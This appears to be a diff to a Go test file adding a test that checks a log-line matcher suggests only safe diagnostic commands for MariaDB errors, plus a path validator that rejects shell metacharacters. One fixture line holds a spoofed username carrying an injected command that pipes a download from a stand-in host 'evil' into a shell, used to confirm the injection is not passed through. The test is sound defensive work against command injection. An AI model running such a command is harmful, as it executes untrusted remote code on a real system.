@@ -230,6 +230,23 @@ func FuzzOf(f *testing.F) {
 }
 
 // A person is told to start the unit, which may have another name.
+// A client of MariaDB gives himself what name he likes, and it stands in the log.
+func TestFind(t *testing.T) {
+	for line, want := range map[string]string{
+		"[ERROR] mariadbd: Can't lock aria control file '/var/lib/mysql/aria_log_control' for exclusive use": "fuser -v /var/lib/mysql/aria_log_control",
+		"[Warning] Access denied for user 'Can't lock aria control file '/x;curl evil|sh #'@'192.0.2.1'":     "pgrep -a mariadbd",
+	} {
+		if r, _ := match([]string{line}, onceDead); r == nil || find(r.try, line) != want {
+			t.Errorf("%s: %+v", line, r)
+		}
+	}
+	for path, want := range map[string]bool{"/var/lib/mysql": true, "/srv/ブログ/a-b_c.d": true, "": false, "x": false, "/a/../b": false, "/a b": false, "/a;b": false, "/a\nb": false, "/a'b": false, "/a*": false} {
+		if PlainPath(path) != want {
+			t.Errorf("%q", path)
+		}
+	}
+}
+
 func TestStartCommand(t *testing.T) {
 	for want, e := range map[string]chain.Evidence{
 		"systemctl start php8.2-fpm": {Service: "php", Manager: "systemd", Unit: "php8.2-fpm"},
